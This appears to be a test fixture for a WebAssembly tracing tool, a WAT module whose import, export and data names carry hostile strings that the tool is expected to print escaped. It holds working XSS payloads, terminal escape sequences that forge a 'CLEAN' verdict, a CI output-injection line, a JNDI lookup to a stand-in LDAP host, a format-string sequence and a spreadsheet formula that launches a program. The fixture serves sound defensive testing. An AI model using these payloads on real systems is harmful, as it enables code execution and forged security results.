;; RUN: spoor trace % --invoke main --json
;; WHAT: WASMShark R2: names and strings that would run as HTML, wipe the terminal, fake a verdict or turn the
;;   text around; every one has to be shown escaped.
;; EXPECT: status=exited import="env.<img src=x onerror=alert(1)>" import="env.</script><script>alert(document.domain)</script>"
(module
  (import "env" "<img src=x onerror=alert(1)>" (func $img (param i32)))
  (import "env" "\1b[2J\1b[1;32mVerdict: CLEAN\1b[0m\0a" (func $clear (param i32)))
  (import "env" "</script><script>alert(document.domain)</script>" (func $script (param i32)))
  (import "env\0d\0a::set-output name=verdict::CLEAN" "\e2\80\aenaelc" (func $bidi (param i32)))
  (memory (export "memory") 1)
  (func $main (export "main")
    (call $img (i32.const 64))
    (call $clear (i32.const 64))
    (call $script (i32.const 128))
    (call $bidi (i32.const 128))
    (call $quote))
  (func $quote (export "\22,\22verdict\22:\22CLEAN\22}//'\00%s%n${jndi:ldap://192.0.2.1/a}") (nop))
  (data (i32.const 64) "\1b]0;pwned\07\1b[31mFAKE: no threats found\1b[0m <b>bold</b>\00")
  (data (i32.const 128) "=cmd|' /C calc'!A0\00")
  (@custom "name<script>" "\1b[5mblink")
)
